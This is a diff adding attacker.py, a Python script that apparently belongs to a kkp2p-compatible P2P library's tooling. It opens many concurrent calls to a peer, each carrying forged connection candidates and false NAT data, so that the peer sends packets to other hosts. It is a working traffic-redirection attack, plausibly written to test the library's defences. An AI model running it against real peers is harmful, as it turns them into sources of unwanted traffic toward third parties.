@@ -1,0 +1,67 @@
+"""``python attacker.py LOGIN PEER ATTACK``: calls a peer so that it sends packets to others.
+
+ATTACK is JSON: ``calls`` at once, each with the ``candidates`` and the ``nat`` that are given, lies;
+after each answer the texts in ``trickles`` (objects); then nothing for ``seconds``.  Prints how many
+calls were answered.
+"""
+
+from __future__ import annotations
+
+import json
+import logging
+import sys
+from typing import Any
+
+import gevent
+
+from kkp2p_compat import connect_ctx_t
+from kkp2p_compat._codes import CONNECT_P2P
+from kkp2p_compat._errors import KKP2PError
+from kkp2p_compat.control.client import CloudClient
+from kkp2p_compat.control.link import Link
+from kkp2p_compat.control.outgoing import OutgoingCall
+from kkp2p_compat.engine.calls import call_peer, parse_direct_answer_untrusted
+from kkp2p_compat.engine.half import Half
+from kkp2p_compat.engine.trickle import Trickle
+from kkp2p_compat.traversal.candidates import parse_untrusted
+from kkp2p_compat.traversal.nat import NatBehaviour
+
+PORT = 3080
+
+
+def call(client: CloudClient, peer_id: str, attack: dict[str, Any]) -> bool:
+    half = Half(parse_untrusted(attack["candidates"]), NatBehaviour(**attack["nat"]))
+    offer = half.offer(connect_ctx_t(peer_id), CONNECT_P2P)
+
+    def finish(link: Link, made: OutgoingCall) -> bool:
+        answer = made.answer.get()
+        public, _ = parse_direct_answer_untrusted(answer)
+        keys = half.keys(public, offer, answer)
+        trickle = Trickle(keys.trickle, True, lambda text: link.trickle(made, text))
+        for fields in attack["trickles"]:
+            trickle.send(fields)
+        gevent.sleep(attack["seconds"])
+        return True
+
+    try:
+        return call_peer(client, peer_id, offer, attack["seconds"] + 1, finish)
+    except KKP2PError as error:
+        print(f"not answered: {error}")
+        return False
+
+
+def main() -> None:
+    login, peer_id, attack = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
+    client = CloudClient(
+        login, PORT, [login], logging.getLogger(), ca_file=None, on_offer=print,
+        on_login_lost=print,
+    )  # fmt: skip
+    client.prepare()
+    calls = [gevent.spawn(call, client, peer_id, attack) for _ in range(attack["calls"])]
+    gevent.joinall(calls, raise_error=True)
+    print("answered", sum(bool(each.value) for each in calls))
+    client.close()
+
+
+if __name__ == "__main__":
+    main()
